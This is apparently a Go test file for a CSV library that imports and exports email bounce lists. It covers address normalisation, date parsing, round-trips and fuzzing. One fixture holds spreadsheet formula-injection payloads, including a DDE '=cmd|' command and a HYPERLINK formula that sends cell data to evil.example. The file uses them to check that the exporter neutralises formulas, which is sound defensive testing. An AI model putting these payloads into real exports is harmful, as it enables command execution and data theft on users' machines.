package csvlist

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"testing"
	"time"
)

func TestNormalizeAddress(t *testing.T) {
	good := map[string]string{
		"Kim@Example.com":        "kim@example.com",
		" \tkim@example.com\r\n": "kim@example.com",
		"a_b+tag@x.org":          "a_b+tag@x.org",
		"Ünïcödé@Bücher.de":      "Ünïcödé@bücher.de",    // only ASCII letters fold
		"\u212Aim@example.com":   "\u212Aim@example.com", // the Kelvin sign is not k
		"a@localhost":            "a@localhost",
	}
	for in, want := range good {
		if got, ok := NormalizeAddress(in); !ok || got != want {
			t.Errorf("%q: %q %v, want %q", in, got, ok, want)
		}
	}
	for _, in := range []string{
		"", "kim", "@x.org", "kim@", "a b@x.org", "a\x00@x.org", "a@x\x7f.org", "\xff@x.org", "\uFFFD@x.org", "\uFEFFa@x.org",
		`"a b"@x.org`, `a\b@x.org`, "a@b@x.org", "<a@x.org>", "a,b@x.org", "a@x..org", "a@.x.org", "a@x.org.", "a@x/org",
		"a@x%2eorg", "a@[127.0.0.1]", strings.Repeat("a", 320) + "@x.org",
	} {
		if got, ok := NormalizeAddress(in); ok {
			t.Errorf("%q accepted as %q", in, got)
		}
	}
}

func TestParseCreated(t *testing.T) {
	now := time.Date(2026, 11, 27, 5, 0, 0, 123, time.UTC)
	berlin, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Skip("no zone data:", err)
	}
	for in, want := range map[string]int64{
		"":                          now.Unix(),
		"1764201600":                1764201600,
		"1764201600000":             1764201600,
		"1764201600.9":              1764201600,
		"2025-11-27 00:00:00":       1764198000, // Berlin is UTC+1 in November
		"2025-11-27T00:00:00":       1764198000,
		"2025-11-27T00:00:00Z":      1764201600,
		"2025-11-27 00:00:00+00:00": 1764201600,
		"2025-11-27":                1764198000,
		"11/27/2025 00:00":          1764198000,
		"11/27/2025":                1764198000,
	} {
		got, err := ParseCreated(in, berlin, now)
		if err != nil || got.Unix() != want {
			t.Errorf("%q: %v %v, want %d", in, got.Unix(), err, want)
		}
	}
	for _, in := range []string{"yesterday", "-5", "0", "99999999999999", "2025-13-01", "NaN"} {
		if got, err := ParseCreated(in, time.UTC, now); err == nil {
			t.Errorf("%q: %v, want an error", in, got)
		}
	}
	// "In the future" is judged against the now given, not the wall clock:
	// up to a day ahead passes (a sender's clock or zone may be off).
	for in, ok := range map[string]bool{
		"2026-11-28 05:00:00": true,
		"2026-11-28 05:00:01": false,
		"2027-01-01":          false,
		"1790000000":          false, // 2026-09-21 is past for the wall clock of 2026-12, future for 2020
	} {
		at := now
		if in == "1790000000" {
			at = time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
		}
		_, err := ParseCreated(in, time.UTC, at)
		if (err == nil) != ok {
			t.Errorf("%q at %s: err %v, want ok=%v", in, at, err, ok)
		}
	}
}

// A list written by Writer reads back the same through Reader, for every
// list's columns.
func TestWriteThenRead(t *testing.T) {
	rows := []Row{
		{Email: "Kim@Example.com", EmailNorm: "kim@example.com", Created: time.Unix(1764201600, 0).UTC(), Reason: `550 "quoted", with comma`, Status: "5.1.1"},
		{Email: "lee@example.com", EmailNorm: "lee@example.com", Created: time.Unix(1764288000, 0).UTC(), Reason: "line\nbreak", Status: "5.1.2"},
	}
	for list, cols := range Columns {
		for _, unix := range []bool{false, true} {
			var buf bytes.Buffer
			w, err := NewWriter(&buf, list, unix)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range rows {
				if err := w.Write(r); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if first, _, _ := strings.Cut(buf.String(), "\n"); first != strings.Join(cols, ",") {
				t.Errorf("%s: header %q", list, first)
			}
			r, err := NewReader(&buf, time.UTC, time.Now())
			if err != nil {
				t.Fatal(err)
			}
			for i, want := range rows {
				got, err := r.Next()
				if err != nil {
					t.Fatalf("%s row %d: %v", list, i, err)
				}
				if got.Email != want.Email || got.EmailNorm != want.EmailNorm || !got.Created.Equal(want.Created) {
					t.Errorf("%s unix=%v row %d: %+v, want %+v", list, unix, i, got, want)
				}
				hasReason := strings.Contains(strings.Join(cols, ","), "reason")
				if hasReason && got.Reason != want.Reason || !hasReason && got.Reason != "" {
					t.Errorf("%s row %d: reason %q", list, i, got.Reason)
				}
			}
			if _, err := r.Next(); err != io.EOF {
				t.Errorf("%s: after the rows: %v, want EOF", list, err)
			}
		}
	}
	if _, err := NewWriter(io.Discard, "hard_bounces", false); err == nil {
		t.Error("unknown list: no error")
	}
}

func TestReaderReportsBadRowsAndGoesOn(t *testing.T) {
	in := "\ufeffEmail Address,Created_At,Ignored\n" +
		"a@x.org,1764201600,x\n" +
		"not-an-address,1,x\n" +
		"\n" +
		"b@x.org,soon,x\n" +
		"\"c@x.org,1\n"
	r, err := NewReader(strings.NewReader(in), time.UTC, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	var good []string
	var bad []int
	for {
		row, err := r.Next()
		if err == io.EOF {
			break
		}
		var re *RowError
		if errors.As(err, &re) {
			bad = append(bad, re.Line)
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		good = append(good, row.EmailNorm)
	}
	if strings.Join(good, ",") != "a@x.org" || len(bad) != 3 || bad[0] != 3 || bad[1] != 5 || bad[2] != 6 {
		t.Errorf("good %v, bad lines %v; want [a@x.org] and lines 3, 5, 6", good, bad)
	}
	for _, header := range []string{"", "created,reason\n"} {
		if _, err := NewReader(strings.NewReader(header), time.UTC, time.Now()); err == nil {
			t.Errorf("header %q: no error", header)
		}
	}
}

func FuzzReader(f *testing.F) {
	f.Add("email,created,status,reason\nkim@example.com,1764201600,5.1.1,550 gone\n")
	f.Add("email\n\"a@x.org\n")
	f.Fuzz(func(t *testing.T, in string) {
		r, err := NewReader(strings.NewReader(in), time.UTC, time.Unix(1764201600, 0))
		if err != nil {
			return
		}
		for range 10000 {
			row, err := r.Next()
			if err == io.EOF {
				return
			}
			var re *RowError
			if errors.As(err, &re) {
				continue
			}
			if err != nil {
				t.Fatal(err)
			}
			if norm, ok := NormalizeAddress(row.Email); !ok || norm != row.EmailNorm {
				t.Fatalf("row %+v: address does not normalise to itself", row)
			}
		}
	})
}

// hostileRows carry what outsiders control: a bounce reason is a remote
// mail server's text, and this address passes every address check.
var hostileRows = []Row{
	{Email: "=cmd|'/Ccalc'!A0@evil.example", EmailNorm: "=cmd|'/ccalc'!a0@evil.example", Created: time.Unix(1764201600, 0).UTC(),
		Status: "=1+1", Reason: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
	{Email: "+1@evil.example", EmailNorm: "+1@evil.example", Created: time.Unix(1764201601, 0).UTC(), Status: "+5.1.1", Reason: "-2+3"},
	{Email: "-x@evil.example", EmailNorm: "-x@evil.example", Created: time.Unix(1764201602, 0).UTC(), Status: "@SUM(1)", Reason: "@SUM(A1:A9)"},
	{Email: "tab@evil.example", EmailNorm: "tab@evil.example", Created: time.Unix(1764201603, 0).UTC(), Status: "\t=2+2", Reason: "\r=2+2"},
	{Email: "ok@example.com", EmailNorm: "ok@example.com", Created: time.Unix(1764201604, 0).UTC(), Status: "5.1.1", Reason: "550 a=b, '=c"},
}

// No exported cell starts with a character a spreadsheet runs as a
// formula, and the export reads back to the same rows (a protective
// leading tab included).
func TestExportNeutralisesFormulas(t *testing.T) {
	for _, unix := range []bool{false, true} {
		var buf bytes.Buffer
		w, err := NewWriter(&buf, "bounces", unix)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range hostileRows {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 1+len(hostileRows) {
			t.Fatalf("%d records, want %d", len(recs), 1+len(hostileRows))
		}
		for i, rec := range recs[1:] {
			want := hostileRows[i]
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("row %d column %d: %q starts a formula", i, j, cell)
				}
			}
			if rec[0] != Escape(want.Email) || rec[2] != Escape(want.Status) || rec[3] != Escape(want.Reason) {
				t.Errorf("row %d: %q", i, rec)
			}
		}
		if got := recs[1][0]; got != "'=cmd|'/Ccalc'!A0@evil.example" {
			t.Errorf("hostile address written as %q", got)
		}
		r, err := NewReader(&buf, time.UTC, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		for i, want := range hostileRows {
			got, err := r.Next()
			if err != nil {
				t.Fatalf("row %d: %v", i, err)
			}
			if got.Email != want.Email || got.EmailNorm != want.EmailNorm || got.Status != want.Status || got.Reason != want.Reason || !got.Created.Equal(want.Created) {
				t.Errorf("unix=%v row %d read back as\n%+v, want\n%+v", unix, i, got, want)
			}
		}
	}
}

// Import removes one apostrophe before a formula character and nothing
// else; it keeps a leading tab (which protects a cell) in a reason.
func TestImportUnescapes(t *testing.T) {
	in := "email,created,status,reason\n" +
		"'=a@x.org,1764201600,'=1,\t=2+2\n" +
		"b@x.org,1764201600,'5.1.1,''=x\n" +
		"c@x.org,1764201600, 5.1.1 ,'\t=2+2\n"
	r, err := NewReader(strings.NewReader(in), time.UTC, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []Row{
		{Email: "=a@x.org", Status: "=1", Reason: "\t=2+2"},
		{Email: "b@x.org", Status: "'5.1.1", Reason: "''=x"},
		{Email: "c@x.org", Status: "5.1.1", Reason: "\t=2+2"},
	} {
		got, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		if got.Email != want.Email || got.Status != want.Status || got.Reason != want.Reason {
			t.Errorf("read %q %q %q, want %q %q %q", got.Email, got.Status, got.Reason, want.Email, want.Status, want.Reason)
		}
	}
	var buf bytes.Buffer
	c := NewCSV(&buf)
	if err := c.Write([]string{"\t=2+2", "=x", "a-b", ""}); err != nil {
		t.Fatal(err)
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "'\t=2+2,'=x,a-b,\n" {
		t.Errorf("CSV wrote %q", got)
	}
}
